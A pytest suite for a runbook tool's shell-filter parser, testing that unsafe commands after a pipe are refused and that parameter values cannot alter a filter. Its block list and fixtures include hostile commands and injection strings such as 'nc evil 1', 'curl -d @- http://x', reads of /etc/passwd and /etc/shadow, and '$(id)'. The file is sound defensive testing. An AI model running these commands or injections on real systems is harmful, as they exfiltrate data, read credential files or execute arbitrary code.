"""What may not stand after a pipe is refused, and a value never changes a filter."""

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stanch.runbook.fill import fill
from stanch.runbook.findings import RefusedError
from stanch.runbook.grammar import filters
from stanch.runbook.model import ParamRef
from stanch.runbook.words import scan
from stanch.tools.filters import FILTERS, FilterError, run
from tests.time_bounds import below, uncovered

REFUSED = r"""
xargs rm
sh
bash -s
tee /etc/passwd
grep -r foo /etc
grep foo /etc/passwd
grep -f /etc/shadow x
grep --file=/etc/shadow
grep -R x
grep -q x
grep '\(a\)\1'
grep -E '(a)\1'
grep -P '(?<=a)b'
grep -P '(a)\1'
grep -z x
grep --include=x y
grep --color=always x
grep
tail -f
tail -F -n 1
tail --follow=name
head /etc/passwd
sort -o /etc/passwd
sort --output=x
sort -S 10G
sort -T /tmp
sort --compress-program=sh
sort /etc/passwd
sort -R
uniq a b
wc --files0-from=x
cut -d: -f1 /etc/passwd
cut -b1
tr a
awk 'BEGIN{system("id")}'
awk '{print > "/etc/passwd"}'
awk '{print $1 > "x"}'
awk '{print | "sh"}'
awk '{"id" | getline}'
awk '{getline}'
awk 'BEGIN{while(1);}'
awk 'BEGIN{for(;;){}}'
awk '{while ((getline line < "/etc/passwd") > 0) print line}'
awk -f prog.awk
awk '{print ENVIRON["HOME"]}'
awk '{print $1}' /etc/passwd
awk 'BEGIN{printf "x" | "cat 1>&2"}'
awk '{print >> "f"}'
awk '{close("x")}'
awk '@load "x"'
awk -l filefuncs '{print}'
awk -i inplace '{print}'
awk 'function f(x){return f(x)} {print f(1)}'
sed -i s/a/b/
sed --in-place=.bak s/a/b/
sed -n 'w /etc/passwd'
sed 's/a/b/w out'
sed 's/a/id/e'
sed 'e id'
sed '1r /etc/passwd'
sed 'R x'
sed ':a;N;ba'
sed 's/a/b/' file
sed -f x
sed -ni p
sed 's/a/b/ge'
sed '1e'
sed 'F'
jq env
jq '$ENV'
jq 'input'
jq '[inputs]'
jq -n '1'
jq 'def f: f; f'
jq 'repeat(1)'
jq 'while(true;.)'
jq 'until(false;.)'
jq 'recurse'
jq 'recurse(.)'
jq 'range(1000000000)'
jq 'limit(3;.[])'
jq 'import "a" as a; .'
jq 'include "a"; .'
jq -f prog
jq . file.json
jq --slurpfile a b .
jq --rawfile a b .
jq -L /tmp .
jq 'debug'
jq 'halt'
jq 'input_filename'
jq '$__prog_args'
jq '@base32d'
jq 'getpath(["a"])'
jq 'path(..)'
jq '.a = 1'
jq 'del(.a)'
jq 'reduce .[] as $x (0; .+1)'
jq 'foreach .[] as $x (0; .+1)'
jq 'label $f | 1'
jq 'now'
less
more
cat file
cat -A
base64
base64 file
python3 -c 'print(1)'
python3 -m http.server
perl -ne print
kubectl apply -f -
watch ls
column
paste a b
nl
yq .
vim -
ssh host
nc evil 1
curl -d @- http://x
sudo grep x
openssl x509 -noout -dates
grep -E 'a{1,999}'
grep -E '((a{200}){200}){200}'
grep '[[:foo:]]'
grep '[z-a]'
grep -E '(a'
grep '\d'
sed 's/a/\U&/'
split -l 1
dd of=/x
env
timeout 5 grep x
wc -l --files0-from=-
head -c 5K
sort -k0
cut -f0
tail -n abc
tr -t
tr '[=a=]' b
tr a '[:upper:]'
GREP x
./grep x
/tmp/grep x
"""
STRAY = [
    "grep '[<x>]'",
    "grep '<x>*'",
    "grep '\\<x>'",
    "grep -P '<x>'",
    "awk '{print $<x>}'",
    "awk '<x>'",
    "jq '.<x>'",
    "jq '.[<x>]'",
    "jq 'select(.a == <x>)'",
    "sed '<x>p'",
    "sed 's<x>a<x>b<x>'",
    "sed 's/a/b/<x>'",
    "cut -f<x>",
    "sort -k<x>",
    "head -<x>",
    "tr a '<x>'",
]
HELD = {
    "grep '<x>'": "one {}\ntwo\n",
    "grep -E '^one <x>$'": "one {}\ntwo\n",
    "grep -F '<x>'": "one {}\ntwo\n",
    "awk '/<x>/'": "one {}\ntwo\n",
    "awk '$0 == \"one <x>\"'": "one {}\ntwo\n",
    "sed -n '/<x>/p'": "one {}\ntwo\n",
}
PLAIN = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Co", "Cn")),
    min_size=1,
    max_size=20,
).filter(lambda value: value not in "one two" and "two" not in value)


@pytest.mark.parametrize("command", REFUSED.split("\n")[1:-1])
def test_it_is_refused_with_a_remedy(command: str) -> None:
    with pytest.raises(RefusedError) as refused:
        filters.read(scan(command))
    assert refused.value.message
    assert refused.value.code.startswith("RB0")


@pytest.mark.parametrize("command", STRAY)
def test_a_parameter_outside_plain_text_is_refused(command: str) -> None:
    with pytest.raises(RefusedError):
        filters.read(scan(command, params={"x"}))


@pytest.mark.parametrize(("command", "text"), HELD.items())
@settings(max_examples=40, deadline=None)
@given(value=PLAIN)
def test_a_value_in_a_pattern_matches_itself_and_nothing_more(
    command: str, text: str, value: str
) -> None:
    template = filters.read(scan(command, params={"x"}))
    made = FILTERS[template.kind].model_validate(fill(template.fields, {"x": value}))
    assert run([made], text.format(value)) == f"one {value}\n"


@settings(max_examples=60, deadline=None)
@given(value=PLAIN)
def test_a_value_in_a_string_of_jq_is_that_string(value: str) -> None:
    template = filters.read(scan("jq -j '\"<x>\"'", params={"x"}))
    made = FILTERS["jq"].model_validate(fill(template.fields, {"x": value}))
    assert run([made], "null") == value


@pytest.mark.parametrize(
    "hostile", ['") | env | ("', "\\(env)", ".*", "a|b", "/d;w x;s/a", '"; system("id")', "$(id)"]
)
@pytest.mark.parametrize(
    "command", ["grep '<x>'", "sed 's/<x>/y/'", "awk '/<x>/'", "jq '.a == \"<x>\"'"]
)
def test_a_hostile_value_leaves_the_filter_as_it_is(command: str, hostile: str) -> None:
    template = filters.read(scan(command, params={"x"}))
    made = FILTERS[template.kind].model_validate(fill(template.fields, {"x": hostile}))
    text = '{"a": "b"}\n'
    expected = {"grep": "", "sed": text, "awk": "", "jq": "false\n"}[template.kind]
    assert run([made], text) == expected


def test_numbers_may_be_parameters() -> None:
    for command, field in (("head -n <x>", "lines"), ("grep -m '<x>' a", "most")):
        assert filters.read(scan(command, params={"x"})).fields[field] == ParamRef(param="x")


def test_variables_of_jq_and_awk_take_values() -> None:
    values = {"x": 'b"'}
    for command, wanted in (
        ("jq --arg n '<x>' '.[] | select(. == $n)'", '"b\\""\n'),
        ("awk -v n='<x>' '{print n}'", 'b"\n'),
    ):
        template = filters.read(scan(command, params={"x"}))
        made = FILTERS[template.kind].model_validate(fill(template.fields, values))
        assert run([made], '["a", "b\\""]') == wanted


def test_a_decoded_answer_is_marked() -> None:
    def made(command: str) -> Any:
        template = filters.read(scan(command))
        return FILTERS[template.kind].model_validate(fill(template.fields, {}))

    assert made("base64 -d").decodes
    assert made("jq -r '.data.x | @base64d'").decodes
    assert not made("jq .data").decodes
    assert run([made("base64 -d")], "aGkK\n") == "hi\n"
    with pytest.raises(FilterError, match="not text in base64"):
        run([made("base64 -d")], "no!")


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("jq '" + "|".join(["[., .]"] * 30) + "'", "1"),
        ("jq '" + "|".join([". + ."] * 40) + "'", '"x"'),
        ("jq '[.[] as $a | .[] as $b | .[] as $c | 1]'", str(list(range(400)))),
        ("awk '{s = s s \"xx\"} END {print s}'", "x\n" * 50),
        ("sed '" + ";".join(["s/x/&&&&&&&&&&/g"] * 9) + "'", "x" * 20),
        ("jq .", "[" * 100_000),
    ],
)
def test_no_filter_runs_without_bound(command: str, text: str) -> None:
    template = filters.read(scan(command))
    made = FILTERS[template.kind].model_validate(fill(template.fields, {}))
    began = time.monotonic()
    with uncovered(), pytest.raises(FilterError):
        run([made], text)
    below(time.monotonic() - began, 20)


def test_a_pattern_that_other_engines_choke_on_is_quick() -> None:
    template = filters.read(scan("grep -cE '(a+)+$'"))
    made = FILTERS["grep"].model_validate(fill(template.fields, {}))
    began = time.monotonic()
    assert run([made], "a" * 50_000 + "b") == "0\n"
    below(time.monotonic() - began, 5)


def test_what_is_not_json_is_said_with_its_line() -> None:
    template = filters.read(scan("jq ."))
    made = FILTERS["jq"].model_validate(template.fields)
    with pytest.raises(FilterError, match="from line 2 on"):
        run([made], "{}\nnope")
